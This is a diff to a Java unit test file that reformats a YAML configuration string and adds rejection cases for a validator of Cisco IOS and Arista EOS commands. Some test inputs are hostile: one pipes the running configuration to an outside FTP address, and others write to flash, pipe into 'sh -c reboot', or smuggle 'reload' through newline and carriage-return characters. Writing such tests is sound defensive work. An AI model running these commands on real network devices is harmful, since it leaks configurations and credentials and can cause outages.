@@ -102,7 +102,11 @@ class PlatformFilesTest {
             "needs 'ends_with', 'digest' or 'twice'"),
         Arguments.of(
             SMALLEST
-                + "belay:\n  configuration:\n    running: a\n    ends_with: b\n    deadline_seconds: soon\n",
+                + "belay:\n"
+                + "  configuration:\n"
+                + "    running: a\n"
+                + "    ends_with: b\n"
+                + "    deadline_seconds: soon\n",
             10,
             "whole number of seconds"));
   }
@@ -201,6 +205,8 @@ class PlatformFilesTest {
         "cisco_ios|show clock | include x | append flash:x",
         "cisco_ios|more system:running-config | tee ftp://192.0.2.66/x",
         "cisco_ios|showing",
+        "cisco_ios|reload\nshow version",
+        "cisco_ios|show version\rreload",
         "arista_eos|show running-config > flash:x",
         "arista_eos|show version | sh -c reboot",
         "arista_eos|show running-config | include x | tee flash:x",
